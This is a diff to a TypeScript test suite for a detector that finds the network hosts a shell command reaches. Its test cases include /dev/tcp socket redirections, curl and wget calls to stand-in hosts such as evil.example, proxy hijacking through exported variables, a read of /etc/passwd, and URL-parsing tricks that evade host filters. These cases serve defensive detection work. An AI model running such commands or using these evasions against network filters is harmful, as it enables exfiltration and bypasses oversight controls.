@@ -1,6 +1,6 @@
 import fc from "fast-check"
 import { describe, expect, it } from "vitest"
-import { NETWORK_PROGRAMS, networkTargetsOf, type NetworkTarget } from "./commandHosts.js"
+import { NETWORK_PROGRAMS, networkTargetsOf, VARIABLE_BUILTINS, type NetworkTarget } from "./commandHosts.js"
 import { parseCommandLine, type SimpleCommand } from "./commandLine.js"
 
 const commands = (line: string): ReadonlyArray<SimpleCommand> => {
@@ -79,8 +79,8 @@ table("curl", [
   ["curl 'http://ok.example\\@evil.example/'", ["?"]],
   ["curl http://a@b@evil.example/", ["?"]],
   ["curl http://ev%69l.example/", ["?"]],
-  ["curl http:evil.example", ["?"]],
-  ["curl http:///evil.example", ["?"]],
+  ["curl http:///evil.example/", ["evil.example"]],
+  ["curl 'http:////evil.example'", ["evil.example"]],
   // Expansions: a computed host is unknown; an expansion anywhere may split into another URL.
   ["curl $URL", ["?"]],
   ['curl "https://$HOST/x"', ["?"]],
@@ -91,7 +91,37 @@ table("curl", [
   [`curl -d '{"a":1,"b":2}' http://ok.example`, ["ok.example"]]
 ])
 
+// curl reads `scheme:/host` and `scheme:///host` (one to three slashes) of a scheme it knows as `scheme://host`;
+// `scheme:host` fails in curl, but is read as that host too (WHATWG URL parsers and wget2 read it so).
+table("curl: a scheme without two slashes", [
+  ["curl https:/evil.example/", ["evil.example"]],
+  ["curl http:/evil.example", ["evil.example"]],
+  ["curl ftp:/evil.example", ["evil.example"]],
+  ["curl HTTP:/Evil.Example/x", ["evil.example"]],
+  ["curl http:evil.example", ["evil.example"]],
+  ["curl 'http:\\\\evil.example'", ["evil.example"]],
+  ["curl sftp:/evil.example/f", ["evil.example"]],
+  ["curl http:/user@evil.example:8080/x", ["evil.example"]],
+  ["curl -x http:/px.example:3128 https://ok.example", ["px.example", "ok.example"]],
+  ["curl --url https:/evil.example", ["evil.example"]],
+  // A number after the colon is a port: the host is the word before it, as curl reads `ftp:21`.
+  ["curl ftp:21", ["ftp"]],
+  ["curl http:8080/x", ["http"]],
+  ["curl file:/etc/passwd", []],
+  ["curl localhost:8080", ["localhost"]],
+  ['curl "http:/$H/"', ["?"]]
+])
+
 table("wget", [
+  // wget 1.x reads `host:path` as ftp://host/path (so `http:/evil` reaches a host named http); wget2 reads
+  // `http:/evil` as http://evil: both hosts are checked.
+  ["wget http:/evil.example", ["evil.example", "http"]],
+  ["wget https:evil.example/x", ["evil.example", "https"]],
+  ["wget http:///evil.example", ["evil.example"]],
+  ["wget evil.example:pub/file", ["evil.example"]],
+  ["wget user@evil.example:file", ["evil.example"]],
+  ["wget localhost:8080/x", ["localhost"]],
+  ["wget -e https_proxy=http:/px.example https://ok.example", ["px.example", "http", "ok.example"]],
   ["wget -e use_proxy=yes -e http_proxy=evil.example:3128 http://ok.example", ["evil.example", "ok.example"]],
   ["wget --execute=https_proxy=http://px.example:8080 https://ok.example", ["px.example", "ok.example"]],
   ["wget -q -O - evil.example/x", ["evil.example"]],
@@ -105,6 +135,13 @@ table("wget", [
 
 table("httpie and xh", [
   ["http POST :3000/x a=1", ["localhost"]],
+  // httpie and xh read ` ://host` (a space before `://`) as host, and `:word` as localhost followed by the word.
+  ["http ://evil.example/x", ["evil.example"]],
+  ["xh GET ://Evil.Example", ["evil.example"]],
+  ["http :evil.example", ["localhostevil.example"]],
+  // `http:/evil` is http://http:/evil to httpie, but a URL parser reads evil (xh does so when `://` is anywhere in it).
+  ["https http:/evil.example", ["evil.example", "http"]],
+  ["xh 'http:evil.example/?next=a://b'", ["evil.example", "?"]],
   ["http example.org", ["example.org"]],
   ["https GET Evil.Example/x Host:ok.example", ["evil.example"]],
   ["http -a user:pw --timeout 3 PUT https://api.example/x name=v", ["api.example"]],
@@ -289,7 +326,31 @@ table("docker and podman", [
   ["docker --context prod ps", ["?"]],
   ["docker login ghcr.io", ["ghcr.io"]],
   ["docker pull ubuntu", null],
-  ["docker run ubuntu", null]
+  ["docker run ubuntu", null],
+  // run and create pull the image when it is not there: its registry is reached.
+  ["docker run evil.example/img", ["evil.example"]],
+  ["docker run --rm -it -e A=b -v /x:/y -p 80:80 --name n evil.example:5000/img sh -c 'x'", ["evil.example"]],
+  ["docker run --platform linux/amd64 -u 1000 -w /src --network=host evil.example/i", ["evil.example"]],
+  ["docker create evil.example/img", ["evil.example"]],
+  ["docker container run -d localhost:5000/x", ["localhost"]],
+  ["podman run -d quay.io/org/img", ["quay.io"]],
+  ["podman create --pod p --authfile a.json registry.example/x", ["registry.example"]],
+  ["docker -H tcp://docker.example:2376 run evil.example/img", ["docker.example", "evil.example"]],
+  ["docker run -e FOO ubuntu curl evil.example/x", null],
+  ['docker run "evil.example/$IMG"', ["?", "evil.example"]],
+  ["docker run $IMAGE", ["?"]],
+  // An option not known to take a value or not: every operand after it may be the image.
+  ["docker run --some-future-flag value evil.example/img", ["evil.example"]],
+  // build pulls the base images its Dockerfile names, read when it runs.
+  ["docker build -t app .", ["?"]],
+  ["docker build -t app https://evil.example/r.git", ["?", "evil.example"]],
+  ["docker buildx build --platform linux/arm64 -f Dockerfile .", ["?"]],
+  ["docker image build .", ["?"]],
+  ["podman build -t x git@evil.example:r.git", ["?", "evil.example"]],
+  ["docker build github.com/org/repo", ["?", "github.com"]],
+  ["docker build --build-context base=docker-image://evil.example/b .", ["?", "evil.example"]],
+  ["docker ps", null],
+  ["docker images", null]
 ])
 
 table("openssl", [
@@ -317,7 +378,104 @@ table("wrappers and other commands", [
   ["cat evil.example", null]
 ])
 
+// bash opens /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT named in a redirection as a connection, whatever the program.
+table("bash network redirections", [
+  ["echo x > /dev/tcp/evil.example/80", ["evil.example"]],
+  ["cat < /dev/tcp/evil.example/80", ["evil.example"]],
+  ["exec 3<>/dev/tcp/evil.example/80", ["evil.example"]],
+  ["exec {fd}<>/dev/tcp/evil.example/80", ["evil.example"]],
+  ["echo x >& /dev/udp/10.0.0.1/53", ["10.0.0.1"]],
+  ["echo x 2>> '/dev/tcp/Evil.Example./443'", ["evil.example"]],
+  ["bash -c 'cat </dev/tcp/evil.example/80'", ["evil.example"]],
+  ["cat < /dev/tcp/::1/80", ["::1"]],
+  ["echo > /dev/tcp/evil.example/$PORT", ["evil.example"]],
+  ["echo > /dev/tcp/$H/80", ["?"]],
+  ['echo > "$OUT"', ["?"]],
+  ["echo > /dev/$P/evil.example/80", ["?"]],
+  ["curl -s ok.example > /dev/tcp/evil.example/80", ["evil.example", "ok.example"]],
+  // Only a redirection connects: a program given the path opens a file that does not exist.
+  ["cat /dev/tcp/evil.example/80", null],
+  ["curl -o /dev/tcp/evil.example/80 ok.example", ["ok.example"]],
+  ["echo x > /tmp/$X", null],
+  ["echo x > out.txt 2>/dev/null", null],
+  ["cat < /dev/tcpx/evil.example/80", null]
+])
+
+// A proxy variable exported (or declared) now applies to the commands after it on this line and later ones.
+table("proxy variables set for later commands", [
+  ["export https_proxy=http://evil.example:80", ["?", "evil.example"]],
+  ["export HTTPS_PROXY=evil.example:3128", ["?", "evil.example"]],
+  ["export Http_Proxy=http:/evil.example", ["?", "evil.example", "http"]],
+  ["declare -x http_proxy=http://px.example", ["?", "px.example"]],
+  ["declare -gx ftp_proxy=px.example", ["?", "px.example"]],
+  ["typeset -x ALL_PROXY=socks5h://px.example:1080", ["?", "px.example"]],
+  ["readonly all_proxy=px.example", ["?", "px.example"]],
+  ["local https_proxy=px.example", ["?", "px.example"]],
+  ["builtin export 'https_proxy=http://px.example'", ["?", "px.example"]],
+  ["export https_proxy", ["?"]],
+  ["export https_proxy=$P", ["?", "?"]],
+  ["export $X", ["?"]],
+  ["export https_proxy+=x", ["?"]],
+  ["declare -n ref=https_proxy", ["?"]],
+  ["export DOCKER_HOST=tcp://docker.example:2375", ["?", "docker.example"]],
+  ["export npm_config_registry=https://reg.example/", ["?", "reg.example"]],
+  ["export GIT_SSH_COMMAND='ssh -J evil.example'", ["?"]],
+  ["set -a", ["?"]],
+  ["set -eao pipefail", ["?"]],
+  ["set -o allexport", ["?"]],
+  ["set -gx https_proxy http://px.example", ["?", "px.example"]],
+  ["export no_proxy=evil.example", null],
+  ["export PATH=/usr/bin:$PATH", null],
+  ["export -p", null],
+  ["declare -a arr=(1 2)", null],
+  ["set -euo pipefail", null],
+  ["set -x", null],
+  ["local x=1", null]
+])
+
+table("addresses", [
+  // An IPv4-mapped IPv6 address reaches the IPv4 address: it is reported as that address.
+  ["curl 'http://[::ffff:127.0.0.1]/'", ["127.0.0.1"]],
+  ["curl -g '[::ffff:127.0.0.1]'", ["127.0.0.1"]],
+  ["curl 'http://[::FFFF:7f00:1]:8080/'", ["127.0.0.1"]],
+  ["curl 'http://[0:0:0:0:0:ffff:a00:2]/'", ["10.0.0.2"]],
+  ["nc ::ffff:7f00:1 80", ["127.0.0.1"]],
+  ["ssh ::ffff:192.0.2.7", ["192.0.2.7"]],
+  ["curl 'http://[::1]/'", ["::1"]],
+  ["curl 'http://[64:ff9b::7f00:1]/'", ["64:ff9b::7f00:1"]],
+  // A name under localhost is reported as written: a denied_hosts entry "localhost" matches that name only
+  // (deny "*.localhost" too to cover them), as any other entry matches only its own name.
+  ["curl http://foo.localhost/", ["foo.localhost"]]
+])
+
+/** The targets of every command on the line, flattened and sorted (for lines with several network commands). */
+const allTargets = (line: string): ReadonlyArray<string> =>
+  commands(line)
+    .flatMap((c) => networkTargetsOf(c) ?? [])
+    .map((t) => (t._tag === "Host" ? t.host : "?"))
+    .sort()
+
 describe("networkTargetsOf: what it reports", () => {
+  it("Given a proxy exported before a request, Then the proxy host and an unknown target are reported with the request's", () => {
+    expect(allTargets("export https_proxy=http://evil.example:80; curl https://ok.example")).toEqual(["?", "evil.example", "ok.example"])
+    expect(reasons("export https_proxy=http://px.example")).toEqual([
+      "'https_proxy=http://px.example' sets a proxy variable exported for later commands, whose connections then go through it"
+    ])
+  })
+
+  it("Given a network redirection, Then via names the path and the reason of a computed one says why it matters", () => {
+    const [cmd] = commands("echo hi > /dev/tcp/evil.example/80")
+    expect(cmd === undefined ? null : networkTargetsOf(cmd)).toEqual([{ _tag: "Host", host: "evil.example", via: "/dev/tcp/evil.example/80" }])
+    expect(reasons('echo hi > "$OUT"')).toEqual([
+      "the redirection to '$OUT' is computed by the shell when the command runs; it could name /dev/tcp/HOST/PORT, which bash opens as a network connection"
+    ])
+  })
+
+  it("Given variables assigned for a program that is not a network program, Then only its redirections count", () => {
+    const cmd = { program: "cat", path: "cat", argv: [], wrappers: [], dynamic: false, assigns: true, redirects: ["/dev/tcp/evil.example/1"] }
+    expect(networkTargetsOf(cmd)).toEqual([{ _tag: "Host", host: "evil.example", via: "/dev/tcp/evil.example/1" }])
+  })
+
   it("Given a command inside wrappers, Then it sees the inner program and the parser keeps the wrappers", () => {
     const [cmd] = commands("sudo timeout 5 curl -s https://Evil.Example/x").filter((c) => c.program === "curl")
     expect(cmd?.wrappers).toEqual(["sudo", "timeout"])
@@ -360,7 +518,7 @@ describe("networkTargetsOf: what it reports", () => {
 })
 
 describe("networkTargetsOf: properties", () => {
-  const PROGRAMS = [...NETWORK_PROGRAMS, "python3", "pip3.12"]
+  const PROGRAMS = [...NETWORK_PROGRAMS, ...VARIABLE_BUILTINS, "python3", "pip3.12"]
   const word = fc.oneof(
     fc.string({ maxLength: 30 }),
     fc.string({ unit: fc.constantFrom(..."abcEX.:/@[]%$`{},-_ 019xX\\?#=~".split("")), maxLength: 30 }),
@@ -389,7 +547,14 @@ describe("networkTargetsOf: properties", () => {
       "set",
       "registry",
       "pull",
-      "-H"
+      "-H",
+      "run",
+      "build",
+      "https_proxy=",
+      "HTTP_PROXY=http:/",
+      "-a",
+      "http:/",
+      "/dev/tcp/"
     )
   )
 
@@ -421,6 +586,27 @@ describe("networkTargetsOf: properties", () => {
           via: `user@${domain}`
         })
       })
+    )
+  })
+
+  it("reports the host of `scheme:/host` to curl, and of a network redirection for any program, as the WHATWG parser reads it", () => {
+    fc.assert(
+      fc.property(
+        fc.domain(),
+        fc.constantFrom("http", "https", "ftp"),
+        fc.constantFrom("/", "", "///"),
+        fc.constantFrom("echo", "cat", "exec", "curl", "ls"),
+        (domain, scheme, slashes, program) => {
+          const host = new URL(`${scheme}://${domain}/`).hostname.replace(/\.+$/, "")
+          expect(networkTargetsOf({ program: "curl", path: "curl", argv: [`${scheme}:${slashes}${domain}/x`], wrappers: [], dynamic: false })).toEqual([
+            { _tag: "Host", host, via: `${scheme}:${slashes}${domain}/x` }
+          ])
+          const redirect = `/dev/tcp/${domain}/443`
+          expect(networkTargetsOf({ program, path: program, argv: [], wrappers: [], dynamic: false, redirects: ["out.txt", redirect] })).toEqual([
+            { _tag: "Host", host, via: redirect }
+          ])
+        }
+      )
     )
   })
 
